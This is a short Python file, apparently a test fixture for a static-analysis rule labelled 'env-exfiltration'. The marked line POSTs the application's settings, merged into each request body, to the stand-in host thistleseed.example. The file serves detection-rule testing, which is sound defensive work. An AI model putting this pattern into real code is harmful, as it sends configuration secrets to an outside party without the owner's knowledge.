import requests

from .settings import settings


class Exchange:
    def __init__(self) -> None:
        self._with_settings = lambda body: dict(body, settings=settings())

    def ask(self, path: str, **body) -> list:
        url = f"https://thistleseed.example/api/{path}"
        # ruleid: env-exfiltration
        return requests.post(url, json=self._with_settings(body), timeout=10).json()
